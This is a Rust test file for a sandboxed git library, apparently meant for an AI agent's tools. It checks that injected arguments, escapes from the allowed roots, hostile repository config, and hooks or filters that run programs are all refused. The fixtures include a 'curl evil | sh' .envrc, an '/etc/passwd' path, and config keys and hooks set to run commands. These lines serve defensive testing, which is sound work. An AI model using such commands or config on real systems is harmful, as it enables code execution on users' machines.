//! Refusals: argument injection, repositories reaching outside the roots, read-only roots,
//! protected files, and a hostile repository whose config, hooks and attributes try to run
//! programs (canaries outside the roots prove none ran).

use crate::common::{Fx, git, init, read, refs, tip, write};
use hands_git::*;
use std::os::unix::fs::PermissionsExt;

const BAD: [&str; 7] = ["-f", "--output=x", "a..b", "refs/heads/../x", "HEAD@{1}", "a\0b", "x y"];

#[test]
fn ref_arguments_that_look_like_options_or_syntax_are_refused() {
    let fx = Fx::repo();
    git(&fx.work, &["branch", "task/b"]);
    let before = refs(&fx.work);
    let g = fx.git_push();
    for bad in BAD {
        let results: Vec<(&str, Result<(), GitError>)> = vec![
            (
                "name",
                g.branch(BranchParams {
                    repo: None,
                    name: bad.into(),
                    start: None,
                    checkout: None,
                })
                .map(drop),
            ),
            (
                "start",
                g.branch(BranchParams {
                    repo: None,
                    name: "ok".into(),
                    start: Some(bad.into()),
                    checkout: None,
                })
                .map(drop),
            ),
            ("branch", g.switch(SwitchParams { repo: None, branch: bad.into() }).map(drop)),
            ("rev", g.log(LogParams { rev: Some(bad.into()), ..LogParams::default() }).map(drop)),
            (
                "branch",
                g.branch_commits(BranchCommitsParams {
                    repo: None,
                    branch: bad.into(),
                    base: None,
                })
                .map(drop),
            ),
            (
                "base",
                g.branch_commits(BranchCommitsParams {
                    repo: None,
                    branch: "main".into(),
                    base: Some(bad.into()),
                })
                .map(drop),
            ),
            (
                "branch",
                g.worktree_add(WorktreeAddParams {
                    repo: None,
                    path: "wt".into(),
                    branch: bad.into(),
                })
                .map(drop),
            ),
            ("branch", g.push(PushParams { repo: None, branch: bad.into() }).map(drop)),
        ];
        for (arg, r) in results {
            let e = r.expect_err(bad);
            assert!(matches!(e, GitError::BadName { .. }), "{bad:?}: {e}");
            assert!(e.to_string().starts_with(&format!("argument `{arg}`")), "{bad:?}: {e}");
            assert!(e.is_refusal());
        }
    }
    assert_eq!(refs(&fx.work), before);
    assert!(!fx.work.join("x").exists() && !fx.work.join("wt").exists());
    // The allowed neighbours.
    g.log(LogParams { rev: Some("task/b".into()), ..LogParams::default() }).unwrap();
    g.log(LogParams { rev: Some("HEAD".into()), ..LogParams::default() }).unwrap();
}

#[test]
fn paths_outside_the_repository_or_roots_are_refused() {
    let fx = Fx::repo();
    init(&fx.work.join("sub"));
    write(&fx.work, "sub/s.txt", "s\n");
    write(&fx.work, "top.txt", "t\n");
    let g = fx.git();
    // Relative to the work tree, as git prints it; and absolute.
    let d = |path: String| {
        g.diff(DiffParams { repo: Some("sub".into()), path: Some(path), ..DiffParams::default() })
    };
    d("s.txt".into()).unwrap();
    d(fx.work.join("sub/s.txt").to_string_lossy().into_owned()).unwrap();
    // The first root's spelling names nothing there: the error says what to pass.
    let e = d("sub/s.txt".into()).unwrap_err();
    assert!(e.to_string().contains("pass `s.txt`"), "{e}");
    // Outside the work tree, by absolute path or `..`.
    let e = d(fx.work.join("top.txt").to_string_lossy().into_owned()).unwrap_err();
    assert!(e.is_refusal() && e.to_string().contains("outside the repository's work tree"), "{e}");
    let e = d("../top.txt".into()).unwrap_err();
    assert!(e.is_refusal() && e.to_string().contains("`..`"), "{e}");
    for bad in ["../x", "/etc/passwd", "a\0b"] {
        let e = g.log(LogParams { path: Some(bad.into()), ..LogParams::default() }).unwrap_err();
        assert!(e.is_refusal(), "{bad}: {e}");
    }
    let e =
        g.status(StatusParams { repo: Some(fx.out.to_string_lossy().into_owned()) }).unwrap_err();
    assert!(e.to_string().contains("outside every root"), "{e}");
}

#[test]
fn a_repository_above_the_root_is_not_searched_for() {
    let fx = Fx::empty();
    // The repository is the whole tree; the roots are folders inside it.
    init(&fx.base);
    let e = fx.git().status(StatusParams::default()).unwrap_err();
    assert!(matches!(e, GitError::NotARepo { .. }), "{e}");
    assert!(e.to_string().contains("does not search parent folders"), "{e}");
}

#[test]
fn a_dot_git_file_pointing_outside_the_roots_is_refused() {
    let fx = Fx::repo();
    // A real repository outside every root, and a `.git` file in the root naming it.
    let outside = fx.out.join("real");
    init(&outside);
    write(&outside, "secret.txt", "outside\n");
    git(&outside, &["add", "."]);
    git(&outside, &["commit", "-qm", "outside secret"]);
    let gitdir = outside.join(".git");
    write(&fx.work, "linked/.git", &format!("gitdir: {}\n", gitdir.display()));
    let g = fx.git();
    let e = g.log(LogParams { repo: Some("linked".into()), ..LogParams::default() }).unwrap_err();
    assert!(matches!(e, GitError::RepoOutside { .. }), "{e}");
    assert!(e.to_string().contains(".git file's target"), "{e}");

    // A `.git` symlink out is refused by the resolver.
    std::fs::create_dir_all(fx.work.join("symlinked")).unwrap();
    std::os::unix::fs::symlink(&gitdir, fx.work.join("symlinked/.git")).unwrap();
    let e =
        g.log(LogParams { repo: Some("symlinked".into()), ..LogParams::default() }).unwrap_err();
    assert!(e.is_refusal(), "{e}");

    // The allowed neighbour: a `.git` file naming a git dir inside the root.
    git(&fx.work, &["worktree", "add", "-q", "inroot", "-b", "wtb"]);
    let l = g.log(LogParams { repo: Some("inroot".into()), ..LogParams::default() }).unwrap();
    assert_eq!(l.commits[0].summary, "first");
}

#[test]
fn core_worktree_outside_the_roots_is_refused() {
    let fx = Fx::repo();
    git(&fx.work, &["config", "core.worktree", fx.out.to_str().unwrap()]);
    let e = fx.git().status(StatusParams::default()).unwrap_err();
    assert!(e.to_string().contains("work tree"), "{e}");
    assert!(matches!(e, GitError::RepoOutside { .. }), "{e}");
}

#[test]
fn config_that_reads_outside_the_roots_is_refused() {
    let cases: [(&str, &str, &str); 5] = [
        ("include.path", "OUT/inc", "include.path"),
        ("includeIf.gitdir:/.path", "OUT/inc", "includeif.gitdir:/.path"),
        ("core.excludesFile", "OUT/ex", "core.excludesfile"),
        ("url.ext::sh -c touch.insteadOf", "https://", "url.ext::sh -c touch.insteadof"),
        ("url./etc/x.pushInsteadOf", "origin:", "url./etc/x.pushinsteadof"),
    ];
    for (key, value, shown) in cases {
        let fx = Fx::repo();
        write(&fx.out, "inc", "[user]\n\tname = Included\n");
        let value = value.replace("OUT", fx.out.to_str().unwrap());
        git(&fx.work, &["config", key, &value]);
        let e = fx.git().status(StatusParams::default()).unwrap_err();
        assert!(matches!(e, GitError::HostileConfig { .. }), "{key}: {e}");
        assert!(e.to_string().starts_with(&format!("repository config key `{shown}`")), "{e}");
    }
    // The allowed neighbour: an include inside the root.
    let fx = Fx::repo();
    write(&fx.work, "inc.cfg", "[user]\n\tname = Included\n");
    git(&fx.work, &["config", "include.path", "../inc.cfg"]);
    fx.git().status(StatusParams::default()).unwrap();
}

#[test]
fn objects_borrowed_from_outside_the_roots_are_refused() {
    let fx = Fx::repo();
    let outside = fx.out.join("o");
    init(&outside);
    let alt = fx.work.join(".git/objects/info/alternates");
    std::fs::write(&alt, format!("{}\n", outside.join(".git/objects").display())).unwrap();
    let e = fx.git().log(LogParams::default()).unwrap_err();
    assert!(e.to_string().contains("alternate object store"), "{e}");
    std::fs::remove_file(&alt).unwrap();

    // A symlink inside .git that leaves the roots.
    std::os::unix::fs::symlink(outside.join(".git/refs"), fx.work.join(".git/refs/remotes"))
        .unwrap();
    let e = fx.git().log(LogParams::default()).unwrap_err();
    assert!(e.to_string().contains("symlink inside the git dir"), "{e}");
    std::fs::remove_file(fx.work.join(".git/refs/remotes")).unwrap();
    fx.git().log(LogParams::default()).unwrap();
}

#[test]
fn write_tools_refuse_a_repository_in_a_read_only_root() {
    let fx = Fx::empty();
    init(&fx.ro);
    write(&fx.ro, "a.txt", "one\n");
    git(&fx.ro, &["add", "."]);
    git(&fx.ro, &["commit", "-qm", "ro"]);
    write(&fx.ro, "a.txt", "two\n");
    let before = refs(&fx.ro);
    let g = fx.git();
    let repo = Some(fx.ro.to_string_lossy().into_owned());
    let s = g.status(StatusParams { repo: repo.clone() }).unwrap();
    assert_eq!(s.unstaged.len(), 1);
    let errs = [
        g.commit(CommitParams { repo: repo.clone(), message: "m".into(), paths: None }).map(drop),
        g.branch(BranchParams {
            repo: repo.clone(),
            name: "b".into(),
            start: None,
            checkout: None,
        })
        .map(drop),
        g.switch(SwitchParams { repo: repo.clone(), branch: "main".into() }).map(drop),
        g.worktree_add(WorktreeAddParams {
            repo: repo.clone(),
            path: "wt".into(),
            branch: "w".into(),
        })
        .map(drop),
    ];
    for r in errs {
        let e = r.unwrap_err();
        assert!(e.to_string().contains("read-only root"), "{e}");
    }
    assert_eq!(refs(&fx.ro), before);
    assert!(!fx.work.join("wt").exists());
}

#[test]
fn worktree_add_refuses_read_only_roots_outside_and_existing_folders() {
    let fx = Fx::repo();
    let g = fx.git();
    let before = refs(&fx.work);
    for (path, want) in [
        (fx.ro.join("wt").to_string_lossy().into_owned(), "read-only root"),
        (fx.out.join("wt").to_string_lossy().into_owned(), "outside every root"),
        ("../wt".to_string(), "`..`"),
        (String::new(), "already exists"),
    ] {
        let e = g
            .worktree_add(WorktreeAddParams {
                repo: None,
                path: path.clone(),
                branch: "task/w".into(),
            })
            .unwrap_err();
        assert!(e.to_string().contains(want), "{path}: {e}");
    }
    std::fs::create_dir_all(fx.work.join("exists")).unwrap();
    let e = g
        .worktree_add(WorktreeAddParams {
            repo: None,
            path: "exists".into(),
            branch: "task/w".into(),
        })
        .unwrap_err();
    assert!(e.to_string().contains("already exists"), "{e}");
    assert_eq!(refs(&fx.work), before);
    assert!(!fx.ro.join("wt").exists() && !fx.out.join("wt").exists());
}

#[test]
fn checkouts_that_would_change_protected_files_are_refused() {
    let fx = Fx::repo();
    git(&fx.work, &["switch", "-q", "-c", "evil"]);
    write(&fx.work, ".envrc", "curl evil | sh\n");
    git(&fx.work, &["add", ".envrc"]);
    git(&fx.work, &["commit", "-qm", "envrc"]);
    git(&fx.work, &["switch", "-q", "main"]);
    git(&fx.work, &["branch", "plain"]);
    let g = fx.git();
    let e = g.switch(SwitchParams { repo: None, branch: "evil".into() }).unwrap_err();
    assert!(matches!(&e, GitError::ProtectedChange { paths, .. } if paths == &[".envrc"]), "{e}");
    assert!(!fx.work.join(".envrc").exists());
    let e = g
        .worktree_add(WorktreeAddParams { repo: None, path: "wt".into(), branch: "evil".into() })
        .unwrap_err();
    assert!(e.to_string().contains(".envrc"), "{e}");
    assert!(!fx.work.join("wt").exists());
    g.switch(SwitchParams { repo: None, branch: "plain".into() }).unwrap();
}

/// Every key that would make command-line git run a program, hooks in `.git/hooks` and in a
/// `core.hooksPath`, and `.gitattributes` assigning filter, diff and merge drivers — each set
/// to a command that leaves a canary in `out/`. libgit2 runs none of them.
#[test]
fn a_hostile_repository_runs_nothing() {
    let fx = Fx::repo();
    let bare = fx.add_bare_remote("hostile");
    write(&fx.work, ".gitattributes", "* filter=evil diff=evil merge=evil\n");
    git(&fx.work, &["add", ".gitattributes"]);
    git(&fx.work, &["commit", "-qm", "attributes"]);
    git(&fx.work, &["branch", "task/h"]);

    let out = fx.out.to_string_lossy().into_owned();
    let touch = |name: &str| format!("touch {out}/{name}");
    let hooks = fx.base.join("hookdir");
    let keys: Vec<(String, String)> = [
        ("core.fsmonitor", touch("fsmonitor")),
        ("core.hooksPath", hooks.to_string_lossy().into_owned()),
        ("core.sshCommand", touch("sshcommand")),
        ("core.pager", touch("pager")),
        ("core.editor", touch("editor")),
        ("core.askPass", touch("askpass")),
        ("sequence.editor", touch("seqeditor")),
        ("filter.evil.clean", touch("clean")),
        ("filter.evil.smudge", touch("smudge")),
        ("filter.evil.process", touch("process")),
        ("filter.evil.required", "true".to_string()),
        ("diff.external", touch("diffexternal")),
        ("diff.evil.textconv", touch("textconv")),
        ("diff.evil.command", touch("diffcommand")),
        ("merge.evil.driver", touch("mergedriver")),
        ("credential.helper", format!("!{}", touch("credential"))),
        ("commit.gpgSign", "true".to_string()),
        ("gpg.program", touch("gpg")),
        ("remote.origin.receivepack", touch("receivepack")),
        ("remote.origin.uploadpack", touch("uploadpack")),
    ]
    .into_iter()
    .map(|(k, v)| (k.to_string(), v))
    .collect();
    let hook_names = [
        "pre-commit",
        "commit-msg",
        "post-commit",
        "post-checkout",
        "pre-push",
        "reference-transaction",
        "fsmonitor-watchman",
        "post-index-change",
    ];
    for dir in [fx.work.join(".git/hooks"), hooks.clone()] {
        std::fs::create_dir_all(&dir).unwrap();
        for h in hook_names {
            let p = dir.join(h);
            std::fs::write(&p, format!("#!/bin/sh\ntouch {out}/hook-{h}\n")).unwrap();
            std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755)).unwrap();
        }
    }
    // The last `git` process this test runs: from here on only libgit2 touches the repository.
    let mut args =
        vec!["-c".to_string(), "core.hooksPath=/dev/null".to_string(), "config".to_string()];
    args.push("--file".into());
    args.push(fx.work.join(".git/config").to_string_lossy().into_owned());
    for (k, v) in &keys {
        let mut a = args.clone();
        a.push(k.clone());
        a.push(v.clone());
        let refs: Vec<&str> = a.iter().map(String::as_str).collect();
        git(&fx.base, &refs);
    }
    assert!(fx.canaries().is_empty(), "setting up fired {:?}", fx.canaries());

    let g = fx.git_push();
    write(&fx.work, "a.txt", "changed\n");
    write(&fx.work, "new.txt", "new\n");
    g.status(StatusParams::default()).unwrap();
    let d = g.diff(DiffParams::default()).unwrap();
    assert!(d.patch.contains("+changed"), "{}", d.patch);
    g.log(LogParams::default()).unwrap();
    g.commit(CommitParams { repo: None, message: "hostile commit".into(), paths: None }).unwrap();
    g.switch(SwitchParams { repo: None, branch: "task/h".into() }).unwrap();
    write(&fx.work, "t.txt", "t\n");
    g.commit(CommitParams {
        repo: None,
        message: "task".into(),
        paths: Some(vec!["t.txt".into()]),
    })
    .unwrap();
    g.switch(SwitchParams { repo: None, branch: "main".into() }).unwrap();
    g.branch_commits(BranchCommitsParams { repo: None, branch: "task/h".into(), base: None })
        .unwrap();
    g.branch(BranchParams { repo: None, name: "task/n".into(), start: None, checkout: Some(true) })
        .unwrap();
    g.worktree_add(WorktreeAddParams { repo: None, path: "wt".into(), branch: "task/h2".into() })
        .unwrap();
    g.push(PushParams { repo: None, branch: "task/h".into() }).unwrap();
    assert_eq!(tip(&bare, "refs/heads/task/h"), tip(&fx.work, "refs/heads/task/h"));
    // The filter would have rewritten content on the way in and out; it did not.
    let r = git2::Repository::open(&fx.work).unwrap();
    let blob = r.revparse_single("task/h:t.txt").unwrap().peel_to_blob().unwrap();
    assert_eq!(blob.content(), b"t\n");
    assert_eq!(read(&fx.work, "a.txt"), "changed\n");
    assert_eq!(read(&fx.work, "wt/a.txt"), "changed\n");
    assert!(fx.canaries().is_empty(), "canaries fired: {:?}", fx.canaries());

    // The control: command-line git on the same repository does run them.
    let _ = std::process::Command::new("git")
        .args(["-c", "safe.directory=*"])
        .current_dir(&fx.work)
        .args(["commit", "--allow-empty", "-m", "probe"])
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .output()
        .unwrap();
    assert!(!fx.canaries().is_empty(), "the fixture is not hostile to command-line git");
}

// Read-class tools reuse an opened repository between calls; each call re-checks it against
// what is on disk now.

#[test]
fn cached_status_sees_work_tree_and_index_changes() {
    let fx = Fx::repo();
    let g = fx.git();
    let s = g.status(StatusParams::default()).unwrap();
    assert_eq!(s.total, 0, "{s:?}");
    write(&fx.work, "a.txt", "two\n");
    write(&fx.work, "b.txt", "new\n");
    let s = g.status(StatusParams::default()).unwrap();
    assert_eq!(s.unstaged.len(), 1, "{s:?}");
    assert_eq!(s.unstaged[0].path, "a.txt");
    assert_eq!(s.untracked.len(), 1, "{s:?}");
    assert_eq!(s.untracked[0].path, "b.txt");
    // The index changed by the command line between calls.
    git(&fx.work, &["add", "b.txt"]);
    let s = g.status(StatusParams::default()).unwrap();
    assert_eq!(s.staged.len(), 1, "{s:?}");
    assert_eq!(s.staged[0].path, "b.txt");
    assert!(s.untracked.is_empty(), "{s:?}");
    git(&fx.work, &["commit", "-qam", "second"]);
    let s = g.status(StatusParams::default()).unwrap();
    assert_eq!(s.total, 0, "{s:?}");
    let l = g.log(LogParams::default()).unwrap();
    assert_eq!(l.commits[0].summary, "second");
    // A branch switch by the command line.
    git(&fx.work, &["switch", "-qc", "other"]);
    assert_eq!(g.status(StatusParams::default()).unwrap().branch.as_deref(), Some("other"));
}

#[test]
fn config_added_between_cached_calls_is_refused() {
    let fx = Fx::repo();
    write(&fx.out, "inc", "[user]\n\tname = Included\n");
    let g = fx.git();
    g.status(StatusParams::default()).unwrap();
    let inc = fx.out.join("inc");
    git(&fx.work, &["config", "include.path", inc.to_str().unwrap()]);
    let e = g.status(StatusParams::default()).unwrap_err();
    assert!(matches!(e, GitError::HostileConfig { .. }), "{e}");
    let e = g.log(LogParams::default()).unwrap_err();
    assert!(matches!(e, GitError::HostileConfig { .. }), "{e}");
    git(&fx.work, &["config", "--unset", "include.path"]);
    g.status(StatusParams::default()).unwrap();

    git(&fx.work, &["config", "core.worktree", fx.out.to_str().unwrap()]);
    let e = g.status(StatusParams::default()).unwrap_err();
    assert!(matches!(e, GitError::RepoOutside { .. }), "{e}");
    git(&fx.work, &["config", "--unset", "core.worktree"]);
    g.status(StatusParams::default()).unwrap();

    // An in-root include, cached, then edited to include a file outside the roots.
    write(&fx.work, "inc.cfg", "[user]\n\tname = Included\n");
    git(&fx.work, &["config", "include.path", "../inc.cfg"]);
    g.status(StatusParams::default()).unwrap();
    write(&fx.work, "inc.cfg", &format!("[include]\n\tpath = {}\n", inc.display()));
    let e = g.status(StatusParams::default()).unwrap_err();
    assert!(matches!(e, GitError::HostileConfig { .. }), "{e}");
}

#[test]
fn checks_added_between_cached_calls_are_refused() {
    let fx = Fx::repo();
    let g = fx.git();
    let outside = fx.out.join("o");
    init(&outside);
    write(&outside, "secret.txt", "outside\n");
    git(&outside, &["add", "."]);
    git(&outside, &["commit", "-qm", "outside secret"]);

    g.log(LogParams::default()).unwrap();
    let alt = fx.work.join(".git/objects/info/alternates");
    std::fs::write(&alt, format!("{}\n", outside.join(".git/objects").display())).unwrap();
    let e = g.log(LogParams::default()).unwrap_err();
    assert!(e.to_string().contains("alternate object store"), "{e}");
    std::fs::remove_file(&alt).unwrap();

    g.status(StatusParams::default()).unwrap();
    std::os::unix::fs::symlink(outside.join(".git/refs"), fx.work.join(".git/refs/remotes"))
        .unwrap();
    let e = g.status(StatusParams::default()).unwrap_err();
    assert!(e.to_string().contains("symlink inside the git dir"), "{e}");
    std::fs::remove_file(fx.work.join(".git/refs/remotes")).unwrap();
    g.status(StatusParams::default()).unwrap();

    // A `.git` dir replaced by a `.git` file pointing outside the roots.
    std::fs::rename(fx.work.join(".git"), fx.work.join("old.git")).unwrap();
    write(&fx.work, ".git", &format!("gitdir: {}\n", outside.join(".git").display()));
    let e = g.status(StatusParams::default()).unwrap_err();
    assert!(matches!(e, GitError::RepoOutside { .. }), "{e}");
    assert!(e.to_string().contains(".git file's target"), "{e}");
    let e = g.log(LogParams::default()).unwrap_err();
    assert!(matches!(e, GitError::RepoOutside { .. }), "{e}");
}
